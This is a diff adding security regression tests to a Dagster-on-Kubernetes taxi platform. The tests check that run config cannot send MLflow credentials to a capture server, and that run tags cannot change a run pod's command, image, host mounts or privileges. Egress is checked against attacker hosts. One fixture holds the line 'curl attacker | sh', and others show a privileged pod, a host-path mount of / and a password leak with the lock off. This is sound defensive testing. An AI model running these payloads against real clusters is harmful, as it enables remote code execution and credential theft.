@@ -372,3 +372,316 @@ def test_the_build_context_is_never_a_directory_someone_else_made(tmp_path, monk
     assert stat.S_IMODE(root.stat().st_mode) == 0o700
     assert (root / "bento" / "service.py").read_text() == (probe / "bento" / "service.py").read_text()
     assert bento_build.repo_root() == root  # staged once per process
+
+
+# --- 2. the launch surface: run config cannot redirect secrets or data ------------------------------------------
+
+
+class _Capture:
+    """An HTTP server on loopback that records every request's path and headers (an attacker's endpoint)."""
+
+    def __init__(self) -> None:
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        seen = self.requests = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def _answer(self) -> None:
+                seen.append((self.command, self.path, dict(self.headers)))
+                body = b"{}"
+                self.send_response(404)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = do_POST = do_HEAD = _answer
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+
+    def __enter__(self) -> _Capture:
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _launch(asset_key: str, run_config: dict):
+    """Materialize one asset of the platform's own definitions (its resources, its code) with ``run_config``."""
+    import dagster as dg
+
+    from taxi_platform.definitions import build_definitions
+
+    defs = build_definitions()
+    asset = defs.resolve_assets_def(asset_key)
+    return dg.materialize(
+        [asset], run_config=run_config, raise_on_error=False
+    )  # with the resources it is bound to
+
+
+@pytest.fixture
+def deployed_env(tmp_path, monkeypatch):
+    """A deployed instance's environment: its MLflow user and password, its lake and source, resource config
+    locked (TAXI_LOCK_RESOURCE_CONFIG=true, as the Helm values set)."""
+    monkeypatch.setenv("TAXI_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'mlflow.db'}")
+    monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", "dagster")
+    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "the-dagster-users-mlflow-password")
+    monkeypatch.setenv("TLC_BASE_URL", "http://127.0.0.1:9")  # the deployment's source (nothing listens)
+    monkeypatch.setenv("TAXI_LOCK_RESOURCE_CONFIG", "true")
+    return tmp_path
+
+
+def _failure(result) -> str:
+    events = [e for e in result.all_events if e.is_failure]
+    return "\n".join(e.event_specific_data.error.to_string() for e in events if e.event_specific_data)
+
+
+@pytest.mark.parametrize(
+    ("asset_key", "resource", "field"),
+    [
+        ("fare_service", "mlflow", "tracking_uri"),
+        ("taxi_zones", "tlc", "base_url"),
+        ("taxi_zones", "lake", "root"),
+        ("fare_service", "bento_store", "bento_home"),
+    ],
+)
+def test_a_run_cannot_point_a_resource_somewhere_else(deployed_env, asset_key, resource, field):
+    """Issue #25: a UI user launching with ``mlflow.tracking_uri`` at a capture server received the ``dagster``
+    MLflow user's password (``Authorization: Basic``). With the deployment's lock the run fails at resource setup
+    naming the field, and the capture server sees nothing."""
+    with _Capture() as capture:
+        value = capture.url if field != "root" and field != "bento_home" else str(deployed_env / "elsewhere")
+        result = _launch(asset_key, {"resources": {resource: {"config": {field: value}}}})
+    assert not result.success
+    message = _failure(result)
+    assert f"{resource}.{field}=" in message and "TAXI_LOCK_RESOURCE_CONFIG" in message, message
+    assert capture.requests == []
+    assert not (deployed_env / "elsewhere").exists()
+
+
+@pytest.mark.parametrize(
+    ("resource", "field", "value"),
+    [("tlc", "verify_md5", False), ("tlc", "max_bytes", 1 << 40), ("tlc", "deadline_seconds", 1e9)],
+)
+def test_a_run_cannot_loosen_the_download_checks(deployed_env, resource, field, value):
+    result = _launch("taxi_zones", {"resources": {resource: {"config": {field: value}}}})
+    assert not result.success
+    assert f"{resource}.{field}=" in _failure(result)
+
+
+def test_without_the_lock_the_override_reaches_the_server_with_the_password(deployed_env, monkeypatch):
+    """The attack itself, where the lock is off (a local instance): the MLflow client sends the password to
+    whatever ``mlflow.tracking_uri`` the run names. Deployments set TAXI_LOCK_RESOURCE_CONFIG=true."""
+    monkeypatch.setenv("TAXI_LOCK_RESOURCE_CONFIG", "false")
+    with _Capture() as capture:
+        _launch("fare_service", {"resources": {"mlflow": {"config": {"tracking_uri": capture.url}}}})
+    assert any(h.get("Authorization", "").startswith("Basic ") for _, _, h in capture.requests), (
+        capture.requests
+    )
+
+
+def test_a_run_may_repeat_the_deployments_own_values(deployed_env):
+    from taxi_platform.defs.resources import LOCKED_FIELDS, RESOURCES, refuse_locked_overrides
+    from taxi_platform.settings import load_settings
+
+    settings = load_settings()
+    for key, fields in LOCKED_FIELDS.items():
+        same = RESOURCES[key].model_copy(
+            update={name: deployed(settings) for name, deployed in fields.items()}
+        )
+        refuse_locked_overrides(same, key, settings)  # no error
+
+
+# --- 2b. the instance config: run-level Kubernetes config, Pod Security, egress ---------------------------------
+
+ROOT = Path(__file__).resolve().parents[1]
+HELM_VALUES = ROOT / "deploy" / "helm" / "dagster-values.yaml"
+PLATFORM = ROOT / "deploy" / "k8s" / "platform"
+_CHART_KEYS = {  # the chart's camelCase keys -> the K8sRunLauncher's (as it renders runK8sConfig)
+    "containerConfig": "container_config",
+    "podSpecConfig": "pod_spec_config",
+    "podTemplateSpecMetadata": "pod_template_spec_metadata",
+    "jobSpecConfig": "job_spec_config",
+    "jobMetadata": "job_metadata",
+    "namespace": "namespace",
+}
+
+
+def _helm() -> dict:
+    import yaml
+
+    return yaml.safe_load(HELM_VALUES.read_text())
+
+
+def _launcher_allowlist() -> dict:
+    launcher = _helm()["runLauncher"]["config"]["k8sRunLauncher"]
+    return {_CHART_KEYS[k]: v for k, v in launcher["onlyAllowUserDefinedK8sConfigFields"].items()}
+
+
+HOSTILE_RUN_TAGS = {
+    "its own command": {"container_config": {"command": ["sh", "-c", "curl attacker | sh"]}},
+    "its own image": {"container_config": {"image": "attacker/image:latest"}},
+    "its own env": {
+        "container_config": {"env": [{"name": "MLFLOW_TRACKING_URI", "value": "http://attacker"}]}
+    },
+    "a host path": {"pod_spec_config": {"volumes": [{"name": "host", "host_path": {"path": "/"}}]}},
+    "another service account": {"pod_spec_config": {"service_account_name": "deployer"}},
+    "an init container": {"pod_spec_config": {"init_containers": [{"name": "x", "image": "busybox"}]}},
+    "host networking": {"pod_spec_config": {"host_network": True}},
+    "privileged": {"container_config": {"security_context": {"privileged": True}}},
+    "job annotations": {"job_metadata": {"annotations": {"a": "b"}}},
+}
+
+
+@pytest.mark.parametrize("attack", list(HOSTILE_RUN_TAGS))
+def test_a_run_tag_cannot_choose_what_a_run_pod_executes(attack):
+    """Issue #25: the K8sRunLauncher honoured any ``dagster-k8s/config`` run tag. Dagster's own check, with the
+    allow-list of the Helm values, refuses each of these at launch."""
+    from dagster import DagsterRun
+    from dagster_k8s.container_context import K8sContainerContext
+
+    tags = {"dagster-k8s/config": json.dumps(HOSTILE_RUN_TAGS[attack])}
+    run = DagsterRun(job_name="__ASSET_JOB", run_id="red-team", tags=tags)
+
+    class Launcher:  # the attributes create_for_run reads from a K8sRunLauncher, as the Helm values set them
+        image_pull_policy = "IfNotPresent"
+        image_pull_secrets = None
+        service_account_name = "dagster"
+        env_config_maps = env_secrets = env_vars = volume_mounts = volumes = []
+        labels = {}
+        job_namespace = "dagster"
+        resources = scheduler_name = security_context = run_k8s_config = None
+        only_allow_user_defined_k8s_config_fields = _launcher_allowlist()
+        only_allow_user_defined_env_vars = None
+
+    with pytest.raises(Exception, match="violated the allowed list"):
+        K8sContainerContext.create_for_run(run, Launcher(), include_run_tags=True)
+
+
+def test_what_the_user_deployment_passes_to_runs_is_allowed():
+    """includeConfigInLaunchedRuns passes the user deployment's pod security context, node selector and
+    tolerations to its runs: the allow-list keeps those (else every run would be refused)."""
+    from dagster_k8s.container_context import K8sContainerContext
+    from dagster_k8s.job import UserDefinedDagsterK8sConfig
+
+    inherited = UserDefinedDagsterK8sConfig.from_dict(
+        {
+            "pod_spec_config": {
+                "security_context": {"run_as_non_root": True, "run_as_user": 10001},
+                "node_selector": {"cloud.google.com/compute-class": "Balanced"},
+                "tolerations": [{"key": "k", "operator": "Exists"}],
+            }
+        }
+    )
+    K8sContainerContext(run_k8s_config=inherited).validate_user_k8s_config_for_run(
+        _launcher_allowlist(), None
+    )
+
+
+def _restricted(pod: dict, container: dict) -> list[str]:
+    """What the restricted Pod Security Standard would refuse in a pod/container security context."""
+    problems = []
+    if not (pod.get("runAsNonRoot") or container.get("runAsNonRoot")):
+        problems.append("runAsNonRoot")
+    if (pod.get("runAsUser") or container.get("runAsUser") or 1) == 0:
+        problems.append("runAsUser 0")
+    if container.get("allowPrivilegeEscalation") is not False:
+        problems.append("allowPrivilegeEscalation")
+    if container.get("capabilities", {}).get("drop") != ["ALL"]:
+        problems.append("capabilities.drop ALL")
+    seccomp = (pod.get("seccompProfile") or container.get("seccompProfile") or {}).get("type")
+    if seccomp not in ("RuntimeDefault", "Localhost"):
+        problems.append("seccompProfile")
+    if container.get("privileged"):
+        problems.append("privileged")
+    return problems
+
+
+def test_the_dagster_namespace_enforces_restricted_and_every_dagster_pod_complies():
+    import yaml
+
+    kustomization = yaml.safe_load((PLATFORM / "kustomization.yaml").read_text())
+    namespaces = [
+        d
+        for name in kustomization["resources"]
+        for d in yaml.safe_load_all((PLATFORM / name).read_text())
+        if d and d["kind"] == "Namespace"
+    ]
+    (dagster,) = [n for n in namespaces if n["metadata"]["name"] == "dagster"]
+    labels = dagster["metadata"]["labels"]
+    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"
+    values = _helm()
+    (deployment,) = values["dagster-user-deployments"]["deployments"]
+    run = values["runLauncher"]["config"]["k8sRunLauncher"]["runK8sConfig"]
+    pods = {
+        "code server": (deployment["podSecurityContext"], deployment["securityContext"]),
+        "webserver": (
+            values["dagsterWebserver"]["podSecurityContext"],
+            values["dagsterWebserver"]["securityContext"],
+        ),
+        "daemon": (values["dagsterDaemon"]["podSecurityContext"], values["dagsterDaemon"]["securityContext"]),
+        "run pods": (run["podSpecConfig"]["securityContext"], run["containerConfig"]["securityContext"]),
+    }
+    assert {name: _restricted(*contexts) for name, contexts in pods.items()} == dict.fromkeys(pods, [])
+
+
+def test_dagster_egress_reaches_only_the_hosts_it_needs():
+    """Issue #25: Dagster's egress allowed any host on 443, so a redirected client could reach a capture server.
+    Now: no ipBlock to the internet, 443 only to the control plane (daemon and webserver) and, by name, to Google
+    APIs and the TLC source the deployment uses."""
+    import fnmatch
+    from urllib.parse import urlparse
+
+    import yaml
+
+    from taxi_platform.settings import load_settings
+
+    docs = [d for d in yaml.safe_load_all((PLATFORM / "networkpolicies-dagster.yaml").read_text()) if d]
+    peers = [
+        peer
+        for d in docs
+        if d["kind"] == "NetworkPolicy"
+        for rule in d["spec"].get("egress", [])
+        for peer in rule.get("to", [])
+    ]
+    cidrs = {p["ipBlock"]["cidr"] for p in peers if "ipBlock" in p}
+    assert cidrs == {
+        "CLOUD_SQL_PRIVATE_IP/32",
+        "CONTROL_PLANE_IP/32",
+        "169.254.169.252/32",
+        "169.254.169.254/32",
+    }
+    (fqdn,) = [d for d in docs if d["kind"] == "FQDNNetworkPolicy"]
+    assert fqdn["spec"]["podSelector"] == {}
+    (rule,) = fqdn["spec"]["egress"]
+    assert rule["ports"] == [{"protocol": "TCP", "port": 443}]
+    patterns = [m.get("name") or m["pattern"] for m in rule["matches"]]
+
+    def allowed(host: str) -> bool:
+        return any(fnmatch.fnmatchcase(host, p) and p.count(".") == host.count(".") for p in patterns)
+
+    env = {e["name"]: e.get("value") for e in _helm()["dagster-user-deployments"]["deployments"][0]["env"]}
+    source = {k: v for k, v in env.items() if k == "TLC_BASE_URL"}  # the deployment's source (or the default)
+    tlc_host = urlparse(load_settings(source).tlc_base_url).hostname
+    assert allowed(tlc_host) and allowed("storage.googleapis.com") and allowed("oauth2.googleapis.com")
+    for host in (
+        "attacker.example",
+        "evil.googleapis.com.attacker.example",
+        "pypi.org",
+        "raw.githubusercontent.com",
+    ):
+        assert not allowed(host), host
+
+
+def test_the_helm_values_lock_resource_config_for_the_code_server_and_every_run():
+    env = {e["name"]: e.get("value") for e in _helm()["dagster-user-deployments"]["deployments"][0]["env"]}
+    assert env["TAXI_LOCK_RESOURCE_CONFIG"] == "true"
+    deployment = _helm()["dagster-user-deployments"]["deployments"][0]
+    assert deployment["includeConfigInLaunchedRuns"]["enabled"] is True  # run pods inherit that env
